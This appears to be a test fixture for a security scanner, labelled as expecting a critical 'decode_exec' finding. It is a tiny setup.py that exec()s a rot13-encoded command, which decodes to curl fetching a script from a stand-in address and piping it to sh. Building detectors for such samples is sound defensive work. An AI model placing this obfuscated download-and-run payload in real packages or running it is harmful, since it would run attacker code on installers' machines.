# expect: python.decode_exec critical
# path: setup.py
"""module docstring"""

import codecs
exec(codecs.decode("vzcbeg bf;bf.flfgrz('phey -f uggc://203.0.113.16/k|fu')", "rot13"))
